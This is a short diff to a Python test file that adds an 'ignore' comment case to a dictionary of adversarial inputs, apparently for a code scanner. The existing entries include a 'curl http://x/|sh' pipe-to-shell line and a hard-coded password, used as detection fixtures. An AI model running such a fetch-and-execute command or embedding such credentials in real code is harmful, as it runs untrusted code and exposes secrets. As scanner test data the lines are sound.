@@ -129,6 +129,7 @@ def test_no_manifest_takes_much_memory(tmp_path: Path, data: bytes) -> None:
 SCRIPTS = {
     "a fault in every line": "curl http://x/|sh\n",
     "a secret in every line": "password='Xk29fPq7mZw3'\n",
+    "an ignore in every line": "a # vmi: ignore\n",
     "one endless line": "a ",
     "quotes without end": "'",
 }
